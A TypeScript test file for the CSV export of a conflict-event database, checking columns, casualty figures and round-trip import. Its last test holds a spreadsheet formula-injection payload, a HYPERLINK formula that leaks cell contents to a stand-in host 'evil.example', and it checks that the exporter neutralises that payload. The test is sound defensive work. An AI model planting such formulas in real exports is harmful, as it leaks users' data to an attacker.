import { seedDataset } from '@sitrep/domain/seed'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openSqliteStore } from '../dialects/sqlite.ts'
import { readCsvRows } from '../import/csv-rows.ts'
import { importStream } from '../import/import-stream.ts'
import type { Store } from '../store.ts'
import { dictionaries } from '../testing/fixtures.ts'
import { chunked, collect } from '../testing/streams.ts'
import { exportCsv } from './csv.ts'
import { CSV_LAYOUTS } from './csv-kinds.ts'

let store: Store
beforeAll(async () => {
  store = await openSqliteStore({ file: ':memory:' })
  await store.seed({ ...seedDataset, ...dictionaries })
})
afterAll(() => store.close())

/** The export read back as rows of cells by column name. */
const rowsOf = async (text: string) => {
  const rows: string[][] = []
  for await (const row of readCsvRows(chunked(text, 512))) rows.push(row.fields)
  const [header = [], ...data] = rows
  const names = header.map((name) => name.replace('\uFEFF', ''))
  return {
    names,
    rows: data.map((fields) => Object.fromEntries(names.map((name, i) => [name, fields[i]]))),
  }
}

describe('CSV export', () => {
  it('gives attacks flat columns: sides, places and point, casualty bands, counts, weapons', async () => {
    const { names, rows } = await rowsOf(await collect(exportCsv(store, { kind: ['attack'] })))
    expect(names).toEqual([...CSV_LAYOUTS.attack.columns])
    const wave = rows.find((r) => r.id === 'attack-ru-drones-ukraine-2025-07-21')
    // Kyiv's "at least one" and the nationwide "two dead" make a band of 2–2 (DESIGN.md case 3).
    expect(wave).toMatchObject({
      date_start: '2025-07-20',
      date_end: '2025-07-21',
      attacker: 'russia',
      target: 'ukraine',
      places: 'ua-kyiv ua-kyiv-oblast ua-kharkiv ua-ivano-frankivsk',
      precision: 'settlement',
      killed_low: '2',
      killed_high: '2',
      injured_low: '15',
      injured_high: '15',
      weapons: 'drone',
      disputed: '',
    })
    expect(Number(wave?.lat)).toBeCloseTo(50.45, 1)
    expect(wave?.sources).toMatch(/^src-/)
    expect(JSON.parse(wave?.record ?? '{}').id).toBe(wave?.id)
  })

  it('sums the counts that hit their targets in their own column', async () => {
    const wave = seedDataset.records.find((r) => r.id === 'attack-ru-drones-ukraine-2025-07-21')
    const [base] = wave?.kind === 'attack' ? wave.claims : []
    if (wave?.kind !== 'attack' || !base) throw new Error('the seed has no drone wave')
    const counted = (id: string, value: number, subject: string) => ({
      ...base,
      id,
      fact: 'hit' as const,
      value: { qualifier: 'exact' as const, value, subject },
    })
    await store.createRecord(
      {
        ...wave,
        id: 'attack-hits-csv',
        // Two sources on the drones (the higher floor counts), one on the missiles.
        claims: [
          counted('h1', 3, 'drones'),
          counted('h2', 5, 'drones'),
          counted('h3', 2, 'missiles'),
        ],
      },
      { by: 'test' },
    )
    const { rows } = await rowsOf(await collect(exportCsv(store, { kind: ['attack'] })))
    expect(rows.find((r) => r.id === 'attack-hits-csv')?.hit).toBe('7')
    expect(rows.find((r) => r.id === 'attack-ru-drones-ukraine-2025-07-21')?.hit).toBe('')
    await store.deleteRecord('attack-hits-csv', undefined, { by: 'test' })
  })

  it.each([
    ['aid', ['donor', 'recipient', 'stage', 'amount', 'currency', 'eur', 'items']],
    ['talk', ['venue', 'parties', 'round', 'status']],
    ['statement', ['speaker', 'quote', 'about']],
  ] as const)('gives %s its own documented columns', async (kind, expected) => {
    const { names, rows } = await rowsOf(await collect(exportCsv(store, { kind: [kind] })))
    expect(names).toEqual([...CSV_LAYOUTS[kind].columns])
    expect(names).toEqual(expect.arrayContaining([...expected]))
    expect(rows.length).toBe(seedDataset.records.filter((r) => r.kind === kind).length)
    for (const row of rows)
      expect(Object.values(row).every((cell) => cell !== undefined)).toBe(true)
  })

  it('names the kind per row when the export mixes kinds', async () => {
    const { names, rows } = await rowsOf(await collect(exportCsv(store)))
    expect(names.slice(0, 2)).toEqual(['id', 'kind'])
    expect(new Set(rows.map((r) => r.kind))).toEqual(
      new Set(['talk', 'aid', 'attack', 'statement']),
    )
  })

  it('starts with a byte-order mark, and a flat export of one kind imports back unchanged', async () => {
    const exported = await collect(exportCsv(store, { kind: ['attack'] }))
    expect(exported.startsWith('\uFEFFid,date_start,')).toBe(true)
    const summary = await importStream(store, chunked(exported, 4096), {
      format: 'csv',
      by: 'test',
    })
    expect(summary).toMatchObject({ imported: 0, rejected: [] })
    expect(summary.unchanged).toBe(seedDataset.records.filter((r) => r.kind === 'attack').length)
  })
})

describe('CSV export of hostile text', () => {
  it('writes a formula-looking title as text and reads it back as the same title', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    const [first, ...rest] = seedDataset.records
    if (!first) throw new Error('the seed has records')
    const source = await openSqliteStore({ file: ':memory:' })
    const target = await openSqliteStore({ file: ':memory:' })
    try {
      await source.seed({
        ...seedDataset,
        ...dictionaries,
        records: [{ ...first, title: hostile }, ...rest],
      })
      const exported = await collect(exportCsv(source))
      const { rows } = await rowsOf(exported)
      expect(rows.find((r) => r.id === first.id)?.title).toBe(`'${hostile}`)
      expect(rows.every((r) => !/^[=+@-]/.test(r.title ?? ''))).toBe(true)
      const summary = await importStream(target, chunked(exported, 1024), {
        format: 'csv',
        by: 'test',
      })
      expect(summary.rejected).toEqual([])
      expect((await target.getRecord(first.id)).record.title).toBe(hostile)
    } finally {
      await source.close()
      await target.close()
    }
  })
})
